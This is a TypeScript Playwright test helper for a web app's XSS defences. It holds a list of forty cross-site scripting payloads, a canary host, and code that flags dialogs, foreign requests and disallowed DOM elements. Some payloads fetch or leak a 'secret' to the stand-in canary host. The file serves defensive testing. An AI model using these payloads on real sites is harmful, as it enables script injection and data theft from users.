import type { Page } from '@playwright/test';

/** A foreign host that must never receive a request. */
export const CANARY = 'canary.example';

/** Forty texts that would act on a page that takes them for anything but text. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  `<img src=x onerror="fetch('http://${CANARY}/')">`,
  `<svg onload=alert(1)>`,
  `<svg><script href="data:,alert(1)"/>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<body onload=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<math href="javascript:alert(1)">x</math>`,
  `<link rel=stylesheet href=http://${CANARY}/x.css>`,
  `<style>@import 'http://${CANARY}/x.css'</style>`,
  `<base href="http://${CANARY}/">`,
  `<meta http-equiv=refresh content="0;url=http://${CANARY}/">`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="http://${CANARY}/x.swf">`,
  `<form action="http://${CANARY}/"><button>go</button></form>`,
  `<a href="javascript:alert(1)">click</a>`,
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  `![secret](http://${CANARY}/?d=secret)`,
  `[click](javascript:alert(1))`,
  `[click](http://${CANARY}/)`,
  `**<img src=http://${CANARY}/x.png>**`,
  '- <img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '\u2028<script>alert(1)</script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
];

/** The same for single-line fields. */
export const onOneLine = (text: string, longest = 200) =>
  text
    .replace(/[\p{Cc}\u2028\u2029]/gu, ' ')
    .slice(0, longest)
    .trim();

/** Everything a page must not do: run foreign scripts, violate its policy, navigate away, or call a foreign host. */
export function watchFor(page: Page, ...origins: string[]): string[] {
  const seen: string[] = [];
  const isForeign = (address: string) => {
    const { protocol, origin } = new URL(address);
    return !['data:', 'about:'].includes(protocol) && !origins.includes(origin);
  };
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('popup', (popup) => seen.push(`popup ${popup.url()}`));
  page.on('pageerror', (error) => seen.push(`error ${error.message}`));
  page.on('console', (message) => {
    if (message.type() === 'error') seen.push(`console ${message.text()}`);
  });
  page.on('request', (request) => isForeign(request.url()) && seen.push(`request ${request.url()}`));
  page.on('framenavigated', (frame) => isForeign(frame.url()) && seen.push(`navigation ${frame.url()}`));
  return seen;
}

/** Elements that no screen of ours renders, inline handlers, and links to addresses that are not ours. */
export const strangersOn = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const NEVER = new Set(
      'script iframe frame object embed link style meta base video audio source math template noscript details'.split(
        ' ',
      ),
    );
    const isOwn = (address: string) =>
      !URL.canParse(address, location.href) || new URL(address, location.href).origin === location.origin;
    const isStrange = (element: Element): boolean => {
      const { localName, attributes } = element;
      if (NEVER.has(localName) && !element.matches('body > script[src]')) return true;
      if ([...attributes].some(({ name }) => name.startsWith('on') || name === 'srcdoc' || name === 'action'))
        return true;
      const address = element.getAttribute('href') ?? element.getAttribute('src') ?? '';
      if (localName !== 'a') return !isOwn(address);
      const { protocol } = element as HTMLAnchorElement;
      const rel = element.getAttribute('rel') ?? '';
      if (!['http:', 'https:', 'mailto:', 'tel:', 'blob:'].includes(protocol)) return true;
      return isOwn(address) ? element.hasAttribute('target') && !rel : rel !== 'noopener noreferrer nofollow';
    };
    return [...document.body.querySelectorAll('*')].filter(isStrange).map(({ outerHTML }) => outerHTML.slice(0, 200));
  });
